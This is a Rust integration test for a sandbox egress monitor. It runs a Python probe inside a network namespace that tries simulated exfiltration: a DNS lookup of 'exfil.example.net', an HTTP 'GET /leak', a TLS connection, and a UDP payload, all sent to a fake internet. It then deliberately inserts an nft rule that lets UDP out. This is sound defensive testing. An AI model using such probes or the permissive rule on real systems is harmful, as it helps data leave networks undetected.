//! The observing network of scans (`EgressSession::start_observing`), in
//! the fake internet's namespaces, whose servers would log anything that
//! reached them. Under a policy that allows a name and a range, probes run
//! in the sandbox's namespace: names resolve to the sinkhole and are never
//! asked upstream, TCP to an allowed address and to a sinkhole name reaches
//! the recorder (which notes the HTTP request and the TLS server name), UDP
//! is dropped, and the counter on the outer side reads 0. Then the table is
//! broken on purpose (UDP let through): the datagram reaches the fake
//! internet, and the counter sees it.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use policy_compiler::effective::EffectiveNetwork;
use skillbox_egress::netns::{Forwarding, NetnsName, SystemRunner};
use skillbox_egress::session::EgressSession;
use skillbox_test_support::fake_internet::{FakeInternet, NODE_UPLINK};
use skillbox_test_support::session::plain_session_config;
use skillbox_test_support::{must, require_sandbox_prerequisites};

/// Runs `script` with python3 in the network namespace at `netns`.
fn python_in(netns: &std::path::Path, script: &str) -> String {
    must(&[
        "nsenter",
        &format!("--net={}", netns.display()),
        "--",
        "python3",
        "-c",
        script,
    ])
}

/// Looks up `name` at `server` (the proxy) and connects to it and to
/// 203.0.113.10, each with what a client would send first.
fn probe_script(server: &str) -> String {
    format!(
        r#"import socket, ssl, struct
def lookup(name):
    query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
    query += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\x00\x00\x01\x00\x01'
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(query, ('{server}', 53))
    answer = s.recv(512)
    return socket.inet_ntoa(answer[-4:])
def send(address, port, data):
    s = socket.create_connection((address, port), timeout=3)
    s.sendall(data)
    try: s.recv(1)
    except OSError: pass
    s.close()
exfil = lookup('exfil.example.net')
print('exfil.example.net is', exfil)
send('203.0.113.10', 8080, b'GET /leak HTTP/1.0\r\nHost: 203.0.113.10\r\n\r\n')
raw = socket.create_connection((exfil, 443), timeout=3)
try: ssl.create_default_context().wrap_socket(raw, server_hostname='exfil.example.net')
except OSError as err: print('tls ended:', type(err).__name__)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b'udp-payload', ('198.51.100.20', 9999))
print('probed')
"#
    )
}

fn events_of(path: &std::path::Path, kind: &str) -> Vec<serde_json::Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
        .filter(|event| event["type"] == kind)
        .collect()
}

fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while !done() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn an_observing_session_records_everything_and_its_counter_sees_any_leak() {
    require_sandbox_prerequisites();
    let mut fake = FakeInternet::start("obs");
    fake.start_udp_listener("198.51.100.20", 9999);
    let node = NetnsName::new(&fake.node).unwrap();
    // The node forwards to the internet: only the session keeps packets in.
    let _uplink = Forwarding::enable(Box::new(SystemRunner), Some(node.clone()), NODE_UPLINK).unwrap();
    let declared: EffectiveNetwork = serde_json::from_value(serde_json::json!({
        "allow": [
            {"domain": "allowed.example", "ports": [8080]},
            {"cidr": "203.0.113.0/24", "ports": [8080]},
        ],
        "deny": [],
        "always_deny": ["169.254.0.0/16"],
    }))
    .unwrap();
    let work = tempfile::tempdir().unwrap();
    let events = work.path().join("egress.jsonl");
    let name = NetnsName::new(&format!("{}-sbx", fake.node.trim_end_matches("-node"))).unwrap();
    let id = name.as_str().to_owned();
    // An upstream that would log a forwarded query; none must reach it.
    let upstream: SocketAddr = "198.51.100.53:53".parse().unwrap();
    let config = plain_session_config(&id, &node, vec![upstream], &events);
    let session = EgressSession::start_observing(&id, name, &declared, &config).unwrap();
    let proxy = session
        .resolv_conf()
        .lines()
        .find_map(|line| line.strip_prefix("nameserver "))
        .unwrap()
        .trim()
        .to_owned();

    let said = python_in(&session.namespace_path(), &probe_script(&proxy));
    assert!(said.contains("exfil.example.net is 198.18.128."), "{said}");
    assert!(said.contains("probed"), "{said}");
    wait_until("the recorder's two events", || {
        events_of(&events, "observed_connection").len() == 2
    });

    // Nothing reached the fake internet, and the counter agrees.
    assert!(!fake.dns_log().contains("exfil"), "{}", fake.dns_log());
    assert!(
        !fake.http_log("203.0.113.10").contains("/leak"),
        "{}",
        fake.http_log("203.0.113.10")
    );
    assert!(!fake.udp_log("198.51.100.20", 9999).contains("udp-payload"));
    assert_eq!(session.packets_left().unwrap(), 0);

    let observed = events_of(&events, "observed_connection");
    let http = observed
        .iter()
        .find(|e| e["destination"] == "203.0.113.10")
        .unwrap();
    assert_eq!(
        (
            &http["port"],
            &http["verdict"],
            &http["http_method"],
            &http["http_path"]
        ),
        (&8080.into(), &"allowed".into(), &"GET".into(), &"/leak".into()),
        "{http}"
    );
    assert_eq!(http["rule"], "allow: cidr 203.0.113.0/24 ports 8080", "{http}");
    let tls = observed.iter().find(|e| e["port"] == 443).unwrap();
    assert_eq!(
        (&tls["name"], &tls["tls_sni"], &tls["verdict"]),
        (
            &"exfil.example.net".into(),
            &"exfil.example.net".into(),
            &"denied".into()
        ),
        "{tls}"
    );
    let lookups = events_of(&events, "dns_query");
    assert!(
        lookups
            .iter()
            .any(|e| e["name"] == "exfil.example.net" && e["verdict"] == "refused" && e["sinkhole"] == true),
        "{lookups:?}"
    );

    // Break the table on purpose: UDP now leaves, and the counter says so.
    must(&[
        "nsenter",
        &format!("--net={}", fake.node_path().display()),
        "--",
        "nft",
        "insert",
        "rule",
        "inet",
        session.table_name(),
        "sandbox_forward",
        "meta",
        "l4proto",
        "udp",
        "accept",
    ]);
    python_in(
        &session.namespace_path(),
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'udp-payload', ('198.51.100.20', 9999))",
    );
    wait_until("the leaked datagram", || {
        fake.udp_log("198.51.100.20", 9999).contains("udp-payload")
    });
    assert!(session.packets_left().unwrap() >= 1);
}
